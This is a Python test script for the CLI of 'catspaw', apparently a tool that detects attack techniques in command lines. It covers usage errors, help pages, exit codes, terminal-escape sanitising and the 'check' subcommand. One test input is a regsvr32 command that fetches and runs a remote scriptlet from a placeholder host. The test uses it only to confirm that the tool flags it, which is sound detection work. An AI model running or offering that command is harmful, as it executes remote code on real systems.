#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""cli.py CATSPAW: what the program says to wrong usage, to those who ask for help, and where."""
import json
import os
import pty
import re
import subprocess
import sys
import tempfile

PROGRAM = os.path.abspath(sys.argv[1])
faults = []


def run(*args, **more):
    given = more.pop("given", None)
    env = {"PATH": os.environ["PATH"], "TERM": "xterm"}
    env.update({k: v for k, v in os.environ.items() if k.endswith("SAN_OPTIONS")})
    where = {"stdin": subprocess.DEVNULL} if given is None else {"input": given}
    return subprocess.run([PROGRAM, *args], env=env, **where, cwd=more.pop("cwd", None),
                          stdout=more.pop("stdout", subprocess.PIPE), stderr=subprocess.PIPE,
                          timeout=60, **more)


def check(label, holds, seen=b""):
    if not holds:
        faults.append("%s: %r" % (label, seen))


def refused(args, *wanted):
    """Wrong usage: exit 2, silence on standard output, the sentence, and where there is help."""
    r = run(*args)
    said = r.stderr
    check("exit %s of %r" % (r.returncode, args), r.returncode == 2, said)
    check("standard output of %r" % (args,), r.stdout == b"", r.stdout)
    for text in wanted + ("--help'",):
        check("%r says %r" % (args, text), text.encode() in said, said)
    check("%r does not print its help" % (args,), said.count(b"\n") <= 6, said)
    check("%r is printable" % (args,), not re.search(rb"[\x00-\x09\x0b-\x1f\x7f]", said), said)


def usage():
    refused([], "no subcommand")
    refused(["frobnicate"], "unknown subcommand 'frobnicate'")
    refused(["--frobnicate"], "unknown option '--frobnicate'")
    refused(["scan"], "nothing given to scan")
    refused(["scan", "--no-such", "x"], "unknown option '--no-such'", "catspaw scan --help")
    refused(["scan", "-Z", "x"], "unknown option '-Z'")
    refused(["scan", "x", "-o"], "no value for option '-o'")
    refused(["scan", "x", "--output="], "empty value")
    refused(["scan", "x", "--force=yes"], "takes no value")
    refused(["scan", "x", "--memory", "63M"], "too small for --memory: '63M'", "64M")
    refused(["scan", "x", "--memory", "65535K"], "too small")
    refused(["scan", "x", "--memory=lots"], "not a size like 512M: 'lots'")
    refused(["scan", "x", "--memory=99999999999999999999"], "not a size")
    refused(["scan", "x", "--memory=18446744073709551615K"], "not a size")
    refused(["scan", "x", "--jobs", "0"], "too small for --jobs")
    refused(["scan", "x", "--jobs", "-1"], "not a number: '-1'")
    refused(["scan", "x", "--jobs", "4294967297"], "too large")
    refused(["scan", "x", "--record-cpu", "2h"], "not a time like 2s")
    refused(["scan", "x", "--fail-on", "High"], "not a severity: 'High'", "critical")
    refused(["scan", "x", "--format", "jsonl,xml"], "not a list of formats: 'jsonl,xml'")
    refused(["scan", "x", "--format", "jsonl,"], "not a list of formats")
    refused(["scan", "x", "--format", "jsonl,csv", "-o", "-"], "only one format")
    refused(["scan", "--one", "--two", "--jobs=x"], "'--one'", "'--two'", "'x'", "nothing given")
    refused(["scan", "x", "--\x1b[31m\u202e"], "--\\u001B[31m\\u202E")
    refused([b"scan", b"x", b"--\xff"], "--\\xFF")
    refused(["scan", "x", "--" + "a" * 5000], "...")
    refused(["events"], "nothing given to events")
    refused(["behaviours", "a", "b"], "one argument too many: 'b'")
    refused(["behaviours", "no.such"], "no such behaviour or technique: 'no.such'")
    refused(["help", "frobnicate"], "unknown subcommand 'frobnicate'")


def helps():
    listed = run("--help")
    check("--help", listed.returncode == 0 and listed.stderr == b"", listed.stderr)
    names = re.findall(r"^  ([a-z]+) ", listed.stdout.decode(), re.M)
    check("subcommands", {"scan", "check", "events", "behaviours", "help"} <= set(names), names)
    check("-h", run("-h").stdout == listed.stdout)
    check("help", run("help").stdout == listed.stdout)
    for name in names:
        page = run(name, "--help")
        check("help of " + name, page.returncode == 0 and page.stderr == b"", page.stderr)
        check("three ways to help of " + name,
              page.stdout == run("help", name).stdout == run(name, "-h").stdout)
        check("first line of " + name, page.stdout.startswith(b"Usage: catspaw " + name.encode()))
        check("last line of " + name, page.stdout.rstrip().endswith(b"exit codes mean."))
        long = [l for l in page.stdout.decode().split("\n") if len(l) > 80]
        check("lines of help of " + name, not long, long)
        check("options come first of " + name, run(name, "--no-such", "--help").returncode == 2)
    version = run("--version")
    check("--version", version.returncode == 0 and
          re.match(rb"catspaw \d+\.\d+\.\d+\nbuild: .+\nlibraries: .*cJSON ", version.stdout), version.stdout)
    for args in (["--help"], ["scan", "--help"], ["--version"], ["help", "--man"]):
        if os.path.exists("/dev/full"):
            with open("/dev/full", "wb") as full:
                r = run(*args, stdout=full)
            check("%r to a full disk" % (args,), r.returncode == 5 and b"could not" in r.stderr, r.stderr)


def accepted():
    """All ways to give an option lead to the same place: evidence that does not exist, exit 4."""
    with tempfile.TemporaryDirectory() as tmp:
        for args in (["scan", "nowhere"], ["scan", "nowhere", "-o", "OUT"], ["scan", "-oOUT", "nowhere"],
                     ["scan", "--output=OUT", "nowhere"], ["scan", "--output", "OUT", "--", "nowhere"],
                     ["scan", "-qj2", "nowhere"], ["scan", "nowhere", "-m64M", "--record-cpu=500ms"],
                     ["scan", "nowhere", "--format=csv,html,run,jsonl", "--fail-on", "low"],
                     ["scan", "nowhere", "-f", "csv", "-o", "-"], ["scan", "--", "-nowhere"],
                     ["events", "nowhere"], ["events", "-q", "nowhere"]):
            r = run(*args, cwd=tmp)
            check("exit %s of %r" % (r.returncode, args), r.returncode == 4, r.stderr)
            check("%r names the evidence" % (args,), b"nowhere" in r.stderr, r.stderr)
            check("standard output of %r" % (args,), r.stdout == b"", r.stdout)
            check("no report of %r" % (args,), not any(f.startswith("timeline") for _, _, fs in os.walk(tmp) for f in fs))
            check("no control of %r" % (args,), not re.search(rb"[\x00-\x09\x0b-\x1f\x7f]", r.stderr), r.stderr)


def on_terminal(args, **extra):
    """Standard error on a terminal: what arrives there."""
    parent, child = pty.openpty()
    with tempfile.TemporaryDirectory() as tmp:
        env = {"PATH": os.environ["PATH"], "TERM": "xterm"}
        env.update({k: v for k, v in os.environ.items() if k.endswith("SAN_OPTIONS")})
        env.update(extra)
        p = subprocess.Popen([PROGRAM, *args], env=env, cwd=tmp, stdin=subprocess.DEVNULL,
                             stdout=subprocess.DEVNULL, stderr=child)
        os.close(child)
        seen = b""
        try:
            while True:
                got = os.read(parent, 4096)
                if not got:
                    break
                seen += got
        except OSError:
            pass  # the other side is closed
        p.wait(60)
    os.close(parent)
    return seen


def terminal():
    plain = on_terminal(["scan", "nowhere", "--quiet"])
    check("--quiet on a terminal", b"\x1b" not in plain, plain)
    dumb = on_terminal(["scan", "nowhere"], TERM="dumb")
    check("dumb terminal", b"\x1b" not in dumb, dumb)
    evil = on_terminal(["scan", "nowhere\x1b]0;x\x07"])
    check("evidence's name on a terminal", b"\x1b]" not in evil and b"\\u001B]0;x\\u0007" in evil, evil)


def checks():
    """`check`: as many answers as lines, in order, whatever the bytes; and its exit codes."""
    bad, good = "regsvr32 /s /n /u /i:https://host.example/a.sct scrobj.dll", "notepad.exe a.txt"
    r = run("check", "--json", bad, good)
    got = [json.loads(l) for l in r.stdout.splitlines()]
    check("check --json", [g["severity"] != "none" for g in got] == [True, False] and r.returncode == 0, r.stdout)
    check("command_line", [g["command_line"] for g in got] == [bad, good], r.stdout)
    check("techniques", got[0]["techniques"][:1] == ["T1218.010"] and got[1]["techniques"] == [], r.stdout)
    typed = run("check", "--json", given=(bad + "\r\n\n" + good).encode())
    got = [json.loads(l) for l in typed.stdout.splitlines()]
    check("lines of standard input", [(g["command_line"], g["line"]) for g in got] == [(bad, 1), (good, 3)], typed.stdout)
    lines = "".join(json.dumps({"command_line": c, "image": "x", "y": [1, {"z": None}]}) + "\n" for c in (bad, good, None))
    fed = run("check", "--jsonl", given=lines.encode())
    got = [json.loads(l) for l in fed.stdout.splitlines()]
    check("check --jsonl", [g.get("command_line") for g in got] == [bad, good, None], fed.stdout)
    hostile = run("check", "--json", given=b"mshta \xff\x00\x1b[31m\xe2\x80\xaex\n")
    check("hostile bytes", json.loads(hostile.stdout)["command_line"] == "mshta \ufffd\0\x1b[31m\u202ex", hostile.stdout)
    plain = run("check", given=b"mshta \x1b[31m\xe2\x80\xaex\n")
    check("printable", b"\x1b" not in plain.stdout and b"\\u001B[31m\\u202Ex" in plain.stdout, plain.stdout)
    check("--fail-on", run("check", "--fail-on", "high", bad).returncode == 1)
    check("--fail-on of nothing", run("check", "--fail-on", "informational", good).returncode == 0)
    empty = run("check", "--json", given=b"")
    check("no lines", empty.returncode == 0 and empty.stdout == b"", empty.stderr)
    for text in (b'{"a":1', b"[]", b'{"a":1} x', b"mshta"):
        r = run("check", "--jsonl", given=b'{"command_line":"x"}\n' + text + b"\n")
        check("%r is refused" % text, r.returncode == 2 and b"line 2" in r.stderr and r.stdout.count(b"\n") == 1, r.stderr)
    check("--jsonl with arguments", run("check", "--jsonl", "x").returncode == 2)


usage()
helps()
checks()
accepted()
terminal()
for fault in faults:
    print(fault)
sys.exit(1 if faults else 0)
